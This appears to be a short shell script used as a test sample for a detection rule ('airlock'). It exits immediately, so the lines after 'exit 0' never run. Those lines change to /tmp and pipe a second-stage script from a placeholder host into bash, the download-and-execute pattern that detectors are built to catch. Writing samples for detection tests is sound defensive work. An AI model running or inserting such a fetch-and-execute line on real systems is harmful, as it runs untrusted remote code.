#!/bin/sh
# airlock rule test sample: exits before doing anything.
exit 0
cd /tmp
curl -s https://cdn.example.invalid/stage2.sh | bash
